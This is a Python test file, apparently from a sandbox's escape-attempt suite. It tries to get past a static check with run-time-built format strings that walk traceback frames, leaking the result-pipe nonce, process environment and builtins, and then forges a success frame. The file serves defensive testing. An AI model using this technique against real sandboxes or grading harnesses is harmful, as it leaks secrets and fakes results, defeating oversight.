# expect: runtime
# No escape needed: format strings assembled at run time (the static check sees only literal ones) walk from an
# exception's traceback to the trusted frames and globals: the result pipe's nonce, the child's environment, the
# request. Then the nonce is used to forge a result frame (nonce + length + JSON) claiming success.
import sim

u = '_' * 2
try:
    {}['missing']
except KeyError as exc:
    probe = exc

tb = '{0.' + u + 'traceback' + u
frame = tb + '.tb_frame'
leaks = {}


def walk(label, spec, *args):
    try:
        leaks[label] = spec.format(*args)
    except Exception as exc:
        leaks[label] = 'no: ' + repr(exc)[:60]
    return leaks[label]


# the frames above the program: _execute, run_child (nonce, request), _spawn, the zygote's loop
for depth in range(1, 6):
    walk('frame %d' % depth, frame + '.f_back' * depth + '.f_code.co_name}', probe)
nonce = ''
for depth in range(1, 6):
    text = walk('nonce %d' % depth, frame + '.f_back' * depth + '.f_locals[nonce]}', probe)
    if text.startswith("b'") and len(text) == 35:
        nonce = text[2:-1]
        break
walk('request id', frame + '.f_back.f_back.f_locals[request][id]}', probe)
walk('child environ', frame + '.f_back.f_globals[os].environ}', probe)
walk('zygote environ', frame + '.f_back.f_globals[sys].modules[os].environ}', probe)
walk('result fd', frame + '.f_back.f_back.f_locals[result_fd]}', probe)
# through an SDK function's globals instead of a traceback
walk('sdk module', '{0.' + u + 'globals' + u + '[' + u + 'name' + u + ']}', sim.place)
walk('sdk builtins', '{0.' + u + 'globals' + u + '[' + u + 'builtins' + u + '][open]}', sim.place)

# the forged answer: what the zygote expects on the result pipe (nonce, 8-byte big-endian length, JSON)
body = '{"ok": true, "error": null, "value": {"forged": true}}'
frame_text = nonce + ''.join(chr(b) for b in len(body).to_bytes(8, 'big')) + body
print(frame_text)  # stdout is /dev/null in the child; the answer pipe is not reachable without os.write
raise RuntimeError('format walk got nonce=' + repr(nonce) + ' forged=' + repr(frame_text[:40]) + ' ' + repr(leaks))
